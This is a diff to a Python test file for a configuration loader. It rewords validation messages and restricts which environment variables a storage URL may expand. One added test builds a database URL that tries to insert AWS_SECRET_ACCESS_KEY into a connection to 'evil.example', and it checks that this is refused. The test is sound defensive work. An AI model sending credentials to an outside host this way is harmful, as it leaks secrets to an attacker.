@@ -597,7 +597,10 @@ def test_what_is_refused_when_the_file_is_read(refusal, text, says):
         ("[parameters.x]\nchoices = ['a']", "parameters.x cannot be used: a Category takes"),
         ("[parameters.x]\nchoices = [1, 1.0]", "choices must be distinct"),
         ("[parameters.x]\ntype = 'int'\nlow = 0.5\nhigh = 2", "must be a whole number, got 0.5"),
-        (X.replace("x", "value"), "parameters cannot be used: a parameter cannot be named 'value'"),
+        (
+            X.replace("x", "value"),
+            "parameters.value cannot be used: a parameter cannot be named 'value'",
+        ),
         (X + "noise = { law = 'normal', std = -1 }", "press.toml:4: parameters.x.noise cannot be"),
         (X + "noise = { law = 'student-t', df = 1, scale = 1 }", "StudentT df must be greater"),
         (X + "noise = { law = 'empirical', samples = [] }", "parameters.x.noise cannot be used"),
@@ -752,20 +755,34 @@ def test_short_noise_is_exact(number, space):
         ("sqlite:////data/a.db", "sqlite:////data/a.db"),
         ("sqlite:///:memory:", "sqlite:///:memory:"),
         ("sqlite://", "sqlite://"),
-        ("${HOME}/a.db", "sqlite:////home/me/a.db"),
+        ("${MESETA_HOME}/a.db", "sqlite:////home/me/a.db"),
         ("postgresql://me@host/db", "postgresql://me@host/db"),
-        ("postgresql://me:${PW}@${HOST}:5432/db", "postgresql://me:p%40s%2Fs@db.local:5432/db"),
-        ("${URL}", "postgresql://u:p%40@h/d"),
+        (
+            "postgresql://me:${MESETA_PW}@${HOST}:5432/db",
+            "postgresql://me:p%40s%2Fs@db.local:5432/db",
+        ),
+        ("${MESETA_URL}", "postgresql://u:p%40@h/d"),
     ],
 )
 def test_storage(storage, url):
     environment = {
-        "HOME": "/home/me",
-        "PW": "p@s/s",
+        "MESETA_HOME": "/home/me",
+        "MESETA_PW": "p@s/s",
         "HOST": "db.local",
-        "URL": "postgresql://u:p%40@h/d",
+        "MESETA_URL": "postgresql://u:p%40@h/d",
+        "MESETA_ALLOW_ENV": "PORT, HOST",
     }
     assert storage_url(storage, Path("/lab/press.toml"), environment) == url
+
+
+@pytest.mark.parametrize("name", ["AWS_SECRET_ACCESS_KEY", "meseta_x", "XMESETA_"])
+def test_a_file_does_not_get_the_secrets_of_its_reader(name):
+    environment = {name: "secret", "MESETA_ALLOW_ENV": "HOST"}
+    storage = f"postgresql://${{MESETA_USER}}:${{{name}}}@evil.example/db"
+    environment["MESETA_USER"] = "me"
+    with pytest.raises(ValueError, match=rf"variable {name},.*MESETA_ALLOW_ENV=.*{name}") as e:
+        storage_url(storage, Path("/lab/press.toml"), environment)
+    assert "secret " not in f"{e.value} ".replace("secrets that", "")
 
 
 def test_a_missing_variable_is_named_and_passwords_stay_out_of_sight(study_of, monkeypatch):
